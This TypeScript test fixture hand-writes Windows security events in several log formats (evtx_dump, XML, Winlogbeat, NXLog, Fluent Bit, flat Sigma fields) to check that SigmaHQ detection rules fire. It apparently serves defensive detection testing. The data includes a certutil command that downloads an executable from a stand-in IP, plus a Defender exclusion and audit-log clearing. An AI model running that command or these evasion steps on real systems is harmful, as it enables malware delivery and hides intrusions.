// The same Windows events written by hand in the shapes CitySOC is fed, one literal per converter:
// - evtx_dump 0.8 (the `evtx` crate, `evtx_dump -o jsonl`): XML attributes under `#attributes`,
//   repeated unnamed <Data> as `{"#text": [..]}`, typed numbers;
// - the event XML as Windows renders it (EvtRender / Get-WinEvent .ToXml()), which Fluent Bit 4.x's
//   winevtlog input sends as `{System: "<Event…>", Message}` with `Render_Event_As_XML On`;
// - Winlogbeat 8.x (`winlog.*`, ECS beside it; unnamed data as paramN, user_data with xml_name);
// - NXLog CE 3.x im_msvistalog with to_json() (EventData fields on top, EventTime without zone);
// - Fluent Bit 4.x winevtlog without XML (StringInserts, no field names);
// - flat records in Sigma's own field names (EventID, Channel, Provider_Name, fields on top).
// Each event's expected alerts are the same in every shape that carries its field names.

type Doc = Record<string, unknown>;

export interface ShapedEvent {
  name: string;
  /** The SigmaHQ rule files (under the corpus's rules/) this event triggers, and no others; the test reads their ids from the corpus. */
  expectedRules: string[];
  shapes: Record<string, Doc | string>;
}

const SYSMON_GUID = '{5770385F-C22A-43E0-BF4C-06F5698FFBD9}';
const CERTUTIL_CMD = 'certutil.exe -urlcache -split -f http://203.0.113.7/a.exe C:\\Users\\Public\\a.exe';

const certutil: ShapedEvent = {
  name: 'Sysmon 1: certutil downloads a file',
  expectedRules: [
    'windows/process_creation/proc_creation_win_certutil_download_direct_ip.yml',
    'windows/process_creation/proc_creation_win_certutil_download.yml',
  ],
  shapes: {
    evtx_dump: {
      Event: {
        '#attributes': { xmlns: 'http://schemas.microsoft.com/win/2004/08/events/event' },
        System: {
          Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon', Guid: SYSMON_GUID } },
          EventID: 1,
          Version: 5,
          Level: 4,
          Task: 1,
          Opcode: 0,
          Keywords: '0x8000000000000000',
          TimeCreated: { '#attributes': { SystemTime: '2026-03-01T08:15:02.123456Z' } },
          EventRecordID: 118311,
          Correlation: null,
          Execution: { '#attributes': { ProcessID: 3112, ThreadID: 4044 } },
          Channel: 'Microsoft-Windows-Sysmon/Operational',
          Computer: 'ws-17.city.gov',
          Security: { '#attributes': { UserID: 'S-1-5-18' } },
        },
        EventData: {
          RuleName: '-',
          UtcTime: '2026-03-01 08:15:02.119',
          ProcessGuid: '{5770385f-c22a-43e0-bf4c-000000001a2c}',
          ProcessId: 6012,
          Image: 'C:\\Windows\\System32\\certutil.exe',
          OriginalFileName: 'CertUtil.exe',
          CommandLine: CERTUTIL_CMD,
          CurrentDirectory: 'C:\\Users\\alice\\',
          User: 'CITY\\alice',
          IntegrityLevel: 'Medium',
          ParentProcessId: 4410,
          ParentImage: 'C:\\Windows\\System32\\cmd.exe',
          ParentCommandLine: 'cmd.exe',
        },
      },
    },
    xml:
      `<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Microsoft-Windows-Sysmon" Guid="${SYSMON_GUID}"/>` +
      '<EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords>' +
      '<TimeCreated SystemTime="2026-03-01T08:15:02.1234560Z"/><EventRecordID>118311</EventRecordID><Correlation/>' +
      '<Execution ProcessID="3112" ThreadID="4044"/><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>ws-17.city.gov</Computer>' +
      '<Security UserID="S-1-5-18"/></System><EventData><Data Name="RuleName">-</Data><Data Name="UtcTime">2026-03-01 08:15:02.119</Data>' +
      '<Data Name="ProcessGuid">{5770385f-c22a-43e0-bf4c-000000001a2c}</Data><Data Name="ProcessId">6012</Data>' +
      '<Data Name="Image">C:\\Windows\\System32\\certutil.exe</Data><Data Name="OriginalFileName">CertUtil.exe</Data>' +
      `<Data Name="CommandLine">${CERTUTIL_CMD}</Data><Data Name="CurrentDirectory">C:\\Users\\alice\\</Data><Data Name="User">CITY\\alice</Data>` +
      '<Data Name="IntegrityLevel">Medium</Data><Data Name="ParentProcessId">4410</Data><Data Name="ParentImage">C:\\Windows\\System32\\cmd.exe</Data>' +
      '<Data Name="ParentCommandLine">cmd.exe</Data></EventData></Event>',
    winlogbeat: {
      '@timestamp': '2026-03-01T08:15:02.123Z',
      event: { code: '1', kind: 'event', provider: 'Microsoft-Windows-Sysmon', created: '2026-03-01T08:15:03.001Z' },
      host: { name: 'ws-17.city.gov', os: { type: 'windows', family: 'windows' } },
      log: { level: 'information' },
      agent: { type: 'winlogbeat', version: '8.15.0' },
      message: 'Process Create:\nRuleName: -\nImage: C:\\Windows\\System32\\certutil.exe',
      winlog: {
        api: 'wineventlog',
        channel: 'Microsoft-Windows-Sysmon/Operational',
        computer_name: 'ws-17.city.gov',
        event_id: '1',
        provider_name: 'Microsoft-Windows-Sysmon',
        provider_guid: SYSMON_GUID,
        record_id: 118311,
        process: { pid: 3112, thread: { id: 4044 } },
        user: { identifier: 'S-1-5-18', domain: 'NT AUTHORITY', name: 'SYSTEM', type: 'User' },
        version: 5,
        task: 'Process Create (rule: ProcessCreate)',
        opcode: 'Info',
        event_data: {
          RuleName: '-',
          UtcTime: '2026-03-01 08:15:02.119',
          ProcessGuid: '{5770385f-c22a-43e0-bf4c-000000001a2c}',
          ProcessId: '6012',
          Image: 'C:\\Windows\\System32\\certutil.exe',
          OriginalFileName: 'CertUtil.exe',
          CommandLine: CERTUTIL_CMD,
          CurrentDirectory: 'C:\\Users\\alice\\',
          User: 'CITY\\alice',
          IntegrityLevel: 'Medium',
          ParentProcessId: '4410',
          ParentImage: 'C:\\Windows\\System32\\cmd.exe',
          ParentCommandLine: 'cmd.exe',
        },
      },
    },
    nxlog: {
      EventTime: '2026-03-01 08:15:02',
      Hostname: 'ws-17.city.gov',
      Keywords: '9223372036854775808',
      EventType: 'INFO',
      SeverityValue: 2,
      Severity: 'INFO',
      EventID: 1,
      SourceName: 'Microsoft-Windows-Sysmon',
      ProviderGuid: SYSMON_GUID,
      Version: 5,
      TaskValue: 1,
      OpcodeValue: 0,
      RecordNumber: 118311,
      ExecutionProcessID: 3112,
      ExecutionThreadID: 4044,
      Channel: 'Microsoft-Windows-Sysmon/Operational',
      Domain: 'NT AUTHORITY',
      AccountName: 'SYSTEM',
      UserID: 'S-1-5-18',
      AccountType: 'User',
      Message: 'Process Create:\r\nRuleName: -',
      Category: 'Process Create (rule: ProcessCreate)',
      Opcode: 'Info',
      RuleName: '-',
      UtcTime: '2026-03-01 08:15:02.119',
      ProcessGuid: '{5770385f-c22a-43e0-bf4c-000000001a2c}',
      ProcessId: '6012',
      Image: 'C:\\Windows\\System32\\certutil.exe',
      OriginalFileName: 'CertUtil.exe',
      CommandLine: CERTUTIL_CMD,
      CurrentDirectory: 'C:\\Users\\alice\\',
      User: 'CITY\\alice',
      IntegrityLevel: 'Medium',
      ParentProcessId: '4410',
      ParentImage: 'C:\\Windows\\System32\\cmd.exe',
      ParentCommandLine: 'cmd.exe',
      EventReceivedTime: '2026-03-01 08:15:03',
      SourceModuleName: 'eventlog',
      SourceModuleType: 'im_msvistalog',
    },
    flat: {
      '@timestamp': '2026-03-01T08:15:02.123Z',
      EventID: 1,
      Channel: 'Microsoft-Windows-Sysmon/Operational',
      Provider_Name: 'Microsoft-Windows-Sysmon',
      Computer: 'ws-17.city.gov',
      EventRecordID: 118311,
      RuleName: '-',
      UtcTime: '2026-03-01 08:15:02.119',
      ProcessGuid: '{5770385f-c22a-43e0-bf4c-000000001a2c}',
      ProcessId: 6012,
      Image: 'C:\\Windows\\System32\\certutil.exe',
      OriginalFileName: 'CertUtil.exe',
      CommandLine: CERTUTIL_CMD,
      CurrentDirectory: 'C:\\Users\\alice\\',
      User: 'CITY\\alice',
      IntegrityLevel: 'Medium',
      ParentProcessId: 4410,
      ParentImage: 'C:\\Windows\\System32\\cmd.exe',
      ParentCommandLine: 'cmd.exe',
    },
  },
};

const EVENTLOG_NS = 'http://manifests.microsoft.com/win/2004/08/windows/eventlog';

const logCleared: ShapedEvent = {
  name: 'Security 1102: the audit log was cleared (UserData)',
  expectedRules: ['windows/builtin/security/win_security_audit_log_cleared.yml'],
  shapes: {
    evtx_dump: {
      Event: {
        '#attributes': { xmlns: 'http://schemas.microsoft.com/win/2004/08/events/event' },
        System: {
          Provider: { '#attributes': { Name: 'Microsoft-Windows-Eventlog', Guid: '{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}' } },
          EventID: 1102,
          Version: 0,
          Level: 4,
          Task: 104,
          Opcode: 0,
          Keywords: '0x4020000000000000',
          TimeCreated: { '#attributes': { SystemTime: '2026-03-02T01:00:00.500000Z' } },
          EventRecordID: 99121,
          Correlation: null,
          Execution: { '#attributes': { ProcessID: 1020, ThreadID: 5256 } },
          Channel: 'Security',
          Computer: 'dc01.city.gov',
          Security: null,
        },
        UserData: {
          LogFileCleared: {
            '#attributes': { xmlns: EVENTLOG_NS },
            SubjectUserSid: 'S-1-5-21-3623811015-3361044348-30300820-1104',
            SubjectUserName: 'li.admin',
            SubjectDomainName: 'CITY',
            SubjectLogonId: '0x4c1a2',
          },
        },
      },
    },
    xml:
      '<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Microsoft-Windows-Eventlog" Guid="{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}"/>' +
      '<EventID>1102</EventID><Version>0</Version><Level>4</Level><Task>104</Task><Opcode>0</Opcode><Keywords>0x4020000000000000</Keywords>' +
      '<TimeCreated SystemTime="2026-03-02T01:00:00.5000000Z"/><EventRecordID>99121</EventRecordID><Correlation/><Execution ProcessID="1020" ThreadID="5256"/>' +
      '<Channel>Security</Channel><Computer>dc01.city.gov</Computer><Security/></System>' +
      `<UserData><LogFileCleared xmlns="${EVENTLOG_NS}"><SubjectUserSid>S-1-5-21-3623811015-3361044348-30300820-1104</SubjectUserSid>` +
      '<SubjectUserName>li.admin</SubjectUserName><SubjectDomainName>CITY</SubjectDomainName><SubjectLogonId>0x4c1a2</SubjectLogonId></LogFileCleared></UserData></Event>',
    winlogbeat: {
      '@timestamp': '2026-03-02T01:00:00.500Z',
      event: { code: '1102', kind: 'event', provider: 'Microsoft-Windows-Eventlog', action: 'Log clear', outcome: 'success' },
      host: { name: 'dc01.city.gov' },
      log: { level: 'information' },
      message: 'The audit log was cleared.',
      winlog: {
        channel: 'Security',
        computer_name: 'dc01.city.gov',
        event_id: '1102',
        provider_name: 'Microsoft-Windows-Eventlog',
        provider_guid: '{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}',
        record_id: 99121,
        process: { pid: 1020, thread: { id: 5256 } },
        keywords: ['Audit Success'],
        task: 'Log clear',
        opcode: 'Info',
        version: 0,
        user_data: {
          xml_name: 'LogFileCleared',
          SubjectUserSid: 'S-1-5-21-3623811015-3361044348-30300820-1104',
          SubjectUserName: 'li.admin',
          SubjectDomainName: 'CITY',
          SubjectLogonId: '0x4c1a2',
        },
      },
    },
    nxlog: {
      EventTime: '2026-03-02 01:00:00',
      Hostname: 'dc01.city.gov',
      Keywords: '4620693217682128896',
      EventType: 'AUDIT_SUCCESS',
      SeverityValue: 2,
      Severity: 'INFO',
      EventID: 1102,
      SourceName: 'Microsoft-Windows-Eventlog',
      ProviderGuid: '{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}',
      Version: 0,
      TaskValue: 104,
      OpcodeValue: 0,
      RecordNumber: 99121,
      ExecutionProcessID: 1020,
      ExecutionThreadID: 5256,
      Channel: 'Security',
      Message: 'The audit log was cleared.',
      Category: 'Log clear',
      Opcode: 'Info',
      SubjectUserSid: 'S-1-5-21-3623811015-3361044348-30300820-1104',
      SubjectUserName: 'li.admin',
      SubjectDomainName: 'CITY',
      SubjectLogonId: '0x4c1a2',
      EventReceivedTime: '2026-03-02 01:00:01',
      SourceModuleName: 'eventlog',
      SourceModuleType: 'im_msvistalog',
    },
    fluentbit: {
      ProviderName: 'Microsoft-Windows-Eventlog',
      ProviderGuid: '{FC65DDD8-D6EF-4962-83D5-6E5CFE9CE148}',
      Qualifiers: 0,
      EventID: 1102,
      Version: 0,
      Level: 4,
      Task: 104,
      Opcode: 0,
      Keywords: '0x4020000000000000',
      TimeCreated: '2026-03-02 09:00:00 +0800',
      EventRecordID: 99121,
      ActivityID: '',
      RelatedActivityID: '',
      ProcessID: 1020,
      ThreadID: 5256,
      Channel: 'Security',
      Computer: 'dc01.city.gov',
      UserID: '',
      Message: 'The audit log was cleared.',
      StringInserts: ['S-1-5-21-3623811015-3361044348-30300820-1104', 'li.admin', 'CITY', '0x4c1a2'],
    },
    flat: {
      '@timestamp': '2026-03-02T01:00:00.500Z',
      EventID: 1102,
      Channel: 'Security',
      Provider_Name: 'Microsoft-Windows-Eventlog',
      Computer: 'dc01.city.gov',
      EventRecordID: 99121,
      SubjectUserSid: 'S-1-5-21-3623811015-3361044348-30300820-1104',
      SubjectUserName: 'li.admin',
      SubjectDomainName: 'CITY',
      SubjectLogonId: '0x4c1a2',
    },
  },
};

const SCM_GUID = '{555908d1-a6d7-4695-8e1e-26931d2012f4}';

const psexecService: ShapedEvent = {
  name: 'System 7045: the PsExec service was installed (EventID with qualifiers)',
  expectedRules: ['windows/builtin/system/service_control_manager/win_system_service_install_sysinternals_psexec.yml'],
  shapes: {
    evtx_dump: {
      Event: {
        '#attributes': { xmlns: 'http://schemas.microsoft.com/win/2004/08/events/event' },
        System: {
          Provider: { '#attributes': { Name: 'Service Control Manager', Guid: SCM_GUID, EventSourceName: 'Service Control Manager' } },
          EventID: { '#attributes': { Qualifiers: 16384 }, '#text': 7045 },
          Version: 0,
          Level: 4,
          Task: 0,
          Opcode: 0,
          Keywords: '0x8080000000000000',
          TimeCreated: { '#attributes': { SystemTime: '2026-03-02T03:04:05.000000Z' } },
          EventRecordID: 5512,
          Correlation: null,
          Execution: { '#attributes': { ProcessID: 704, ThreadID: 812 } },
          Channel: 'System',
          Computer: 'app-03.city.gov',
          Security: { '#attributes': { UserID: 'S-1-5-21-3623811015-3361044348-30300820-1104' } },
        },
        EventData: {
          ServiceName: 'PSEXESVC',
          ImagePath: '%SystemRoot%\\PSEXESVC.exe',
          ServiceType: 'user mode service',
          StartType: 'demand start',
          AccountName: 'LocalSystem',
        },
      },
    },
    xml:
      `<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Service Control Manager" Guid="${SCM_GUID}" EventSourceName="Service Control Manager"/>` +
      '<EventID Qualifiers="16384">7045</EventID><Version>0</Version><Level>4</Level><Task>0</Task><Opcode>0</Opcode><Keywords>0x8080000000000000</Keywords>' +
      '<TimeCreated SystemTime="2026-03-02T03:04:05.0000000Z"/><EventRecordID>5512</EventRecordID><Correlation/><Execution ProcessID="704" ThreadID="812"/>' +
      '<Channel>System</Channel><Computer>app-03.city.gov</Computer><Security UserID="S-1-5-21-3623811015-3361044348-30300820-1104"/></System>' +
      '<EventData><Data Name="ServiceName">PSEXESVC</Data><Data Name="ImagePath">%SystemRoot%\\PSEXESVC.exe</Data>' +
      '<Data Name="ServiceType">user mode service</Data><Data Name="StartType">demand start</Data><Data Name="AccountName">LocalSystem</Data></EventData></Event>',
    winlogbeat: {
      '@timestamp': '2026-03-02T03:04:05.000Z',
      event: { code: '7045', kind: 'event', provider: 'Service Control Manager' },
      host: { name: 'app-03.city.gov' },
      log: { level: 'information' },
      message: 'A service was installed in the system.',
      winlog: {
        channel: 'System',
        computer_name: 'app-03.city.gov',
        event_id: '7045',
        provider_name: 'Service Control Manager',
        provider_guid: SCM_GUID,
        record_id: 5512,
        process: { pid: 704, thread: { id: 812 } },
        user: { identifier: 'S-1-5-21-3623811015-3361044348-30300820-1104' },
        keywords: ['Classic'],
        opcode: 'Info',
        event_data: {
          ServiceName: 'PSEXESVC',
          ImagePath: '%SystemRoot%\\PSEXESVC.exe',
          ServiceType: 'user mode service',
          StartType: 'demand start',
          AccountName: 'LocalSystem',
        },
      },
    },
    nxlog: {
      EventTime: '2026-03-02 03:04:05',
      Hostname: 'app-03.city.gov',
      Keywords: '9259400833873739776',
      EventType: 'INFO',
      SeverityValue: 2,
      Severity: 'INFO',
      EventID: 7045,
      SourceName: 'Service Control Manager',
      ProviderGuid: SCM_GUID,
      Version: 0,
      TaskValue: 0,
      OpcodeValue: 0,
      RecordNumber: 5512,
      ExecutionProcessID: 704,
      ExecutionThreadID: 812,
      Channel: 'System',
      UserID: 'S-1-5-21-3623811015-3361044348-30300820-1104',
      Message: 'A service was installed in the system.',
      Opcode: 'Info',
      ServiceName: 'PSEXESVC',
      ImagePath: '%SystemRoot%\\PSEXESVC.exe',
      ServiceType: 'user mode service',
      StartType: 'demand start',
      EventReceivedTime: '2026-03-02 03:04:06',
      SourceModuleName: 'eventlog',
      SourceModuleType: 'im_msvistalog',
    },
    flat: {
      '@timestamp': '2026-03-02T03:04:05.000Z',
      EventID: 7045,
      Channel: 'System',
      Provider_Name: 'Service Control Manager',
      Computer: 'app-03.city.gov',
      EventRecordID: 5512,
      ServiceName: 'PSEXESVC',
      ImagePath: '%SystemRoot%\\PSEXESVC.exe',
      ServiceType: 'user mode service',
      StartType: 'demand start',
      AccountName: 'LocalSystem',
    },
  },
};

const DEFENDER = 'Microsoft-Windows-Windows Defender/Operational';
const EXCLUSION = 'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\Users\\Public = 0x0';

const defenderExclusion: ShapedEvent = {
  name: 'Defender 5007: an exclusion was added (EventData names with spaces)',
  expectedRules: ['windows/builtin/windefend/win_defender_config_change_exclusion_added.yml'],
  shapes: {
    evtx_dump: {
      Event: {
        '#attributes': { xmlns: 'http://schemas.microsoft.com/win/2004/08/events/event' },
        System: {
          Provider: { '#attributes': { Name: 'Microsoft-Windows-Windows Defender', Guid: '{11cd958a-c507-4ef3-b3f2-5fd9dfbd2c78}' } },
          EventID: 5007,
          Version: 0,
          Level: 4,
          Task: 0,
          Opcode: 0,
          Keywords: '0x8000000000000000',
          TimeCreated: { '#attributes': { SystemTime: '2026-03-03T10:20:30.250000Z' } },
          EventRecordID: 771,
          Correlation: { '#attributes': { ActivityID: '{a7f3c1d2-0000-0000-0000-000000000000}' } },
          Execution: { '#attributes': { ProcessID: 3644, ThreadID: 9980 } },
          Channel: DEFENDER,
          Computer: 'ws-17.city.gov',
          Security: { '#attributes': { UserID: 'S-1-5-18' } },
        },
        EventData: {
          'Product Name': '%827',
          'Product Version': '4.18.2203.5',
          'Old Value': '',
          'New Value': EXCLUSION,
        },
      },
    },
    xml:
      '<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Microsoft-Windows-Windows Defender" Guid="{11cd958a-c507-4ef3-b3f2-5fd9dfbd2c78}"/>' +
      '<EventID>5007</EventID><Version>0</Version><Level>4</Level><Task>0</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords>' +
      '<TimeCreated SystemTime="2026-03-03T10:20:30.2500000Z"/><EventRecordID>771</EventRecordID><Correlation ActivityID="{a7f3c1d2-0000-0000-0000-000000000000}"/>' +
      `<Execution ProcessID="3644" ThreadID="9980"/><Channel>${DEFENDER}</Channel><Computer>ws-17.city.gov</Computer><Security UserID="S-1-5-18"/></System>` +
      '<EventData><Data Name="Product Name">%827</Data><Data Name="Product Version">4.18.2203.5</Data><Data Name="Old Value"></Data>' +
      `<Data Name="New Value">${EXCLUSION}</Data></EventData></Event>`,
    winlogbeat: {
      '@timestamp': '2026-03-03T10:20:30.250Z',
      event: { code: '5007', kind: 'event', provider: 'Microsoft-Windows-Windows Defender' },
      host: { name: 'ws-17.city.gov' },
      log: { level: 'information' },
      winlog: {
        channel: DEFENDER,
        computer_name: 'ws-17.city.gov',
        event_id: '5007',
        provider_name: 'Microsoft-Windows-Windows Defender',
        record_id: 771,
        activity_id: '{a7f3c1d2-0000-0000-0000-000000000000}',
        process: { pid: 3644, thread: { id: 9980 } },
        event_data: { 'Product Name': '%827', 'Product Version': '4.18.2203.5', 'Old Value': '', 'New Value': EXCLUSION },
      },
    },
    nxlog: {
      EventTime: '2026-03-03 10:20:30',
      Hostname: 'ws-17.city.gov',
      EventID: 5007,
      SourceName: 'Microsoft-Windows-Windows Defender',
      RecordNumber: 771,
      Channel: DEFENDER,
      'Product Name': '%827',
      'Product Version': '4.18.2203.5',
      'Old Value': '',
      'New Value': EXCLUSION,
      SourceModuleName: 'eventlog',
      SourceModuleType: 'im_msvistalog',
    },
    flat: {
      '@timestamp': '2026-03-03T10:20:30.250Z',
      EventID: 5007,
      Channel: DEFENDER,
      Provider_Name: 'Microsoft-Windows-Windows Defender',
      Computer: 'ws-17.city.gov',
      EventRecordID: 771,
      ProductName: '%827',
      ProductVersion: '4.18.2203.5',
      NewValue: EXCLUSION,
    },
  },
};

const transportAgent: ShapedEvent = {
  name: 'MSExchange Management: a transport agent was installed (unnamed Data, a keyword rule)',
  expectedRules: ['windows/builtin/msexchange/win_exchange_transportagent.yml'],
  shapes: {
    evtx_dump: {
      Event: {
        '#attributes': { xmlns: 'http://schemas.microsoft.com/win/2004/08/events/event' },
        System: {
          Provider: { '#attributes': { Name: 'MSExchange CmdletLogs' } },
          EventID: { '#attributes': { Qualifiers: 16384 }, '#text': 1 },
          Level: 4,
          Task: 1,
          Keywords: '0x80000000000000',
          TimeCreated: { '#attributes': { SystemTime: '2026-03-04T06:00:00.000000Z' } },
          EventRecordID: 4410,
          Channel: 'MSExchange Management',
          Computer: 'mail01.city.gov',
          Security: null,
        },
        EventData: {
          Data: {
            '#text': ['Install-TransportAgent', '-Name "Updater" -TransportAgentFactory "U.Factory" -AssemblyPath "C:\\Temp\\u.dll"', 'CITY\\mail.admin'],
          },
          Binary: null,
        },
      },
    },
    xml:
      '<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="MSExchange CmdletLogs"/>' +
      '<EventID Qualifiers="16384">1</EventID><Level>4</Level><Task>1</Task><Keywords>0x80000000000000</Keywords>' +
      '<TimeCreated SystemTime="2026-03-04T06:00:00.0000000Z"/><EventRecordID>4410</EventRecordID><Channel>MSExchange Management</Channel>' +
      '<Computer>mail01.city.gov</Computer><Security/></System><EventData><Data>Install-TransportAgent</Data>' +
      '<Data>-Name "Updater" -TransportAgentFactory "U.Factory" -AssemblyPath "C:\\Temp\\u.dll"</Data><Data>CITY\\mail.admin</Data></EventData></Event>',
    winlogbeat: {
      '@timestamp': '2026-03-04T06:00:00.000Z',
      event: { code: '1', kind: 'event', provider: 'MSExchange CmdletLogs' },
      host: { name: 'mail01.city.gov' },
      log: { level: 'information' },
      winlog: {
        channel: 'MSExchange Management',
        computer_name: 'mail01.city.gov',
        event_id: '1',
        provider_name: 'MSExchange CmdletLogs',
        record_id: 4410,
        keywords: ['Classic'],
        event_data: {
          param1: 'Install-TransportAgent',
          param2: '-Name "Updater" -TransportAgentFactory "U.Factory" -AssemblyPath "C:\\Temp\\u.dll"',
          param3: 'CITY\\mail.admin',
        },
      },
    },
  },
};

export const SHAPED_EVENTS: readonly ShapedEvent[] = [certutil, logCleared, psexecService, defenderExclusion, transportAgent];
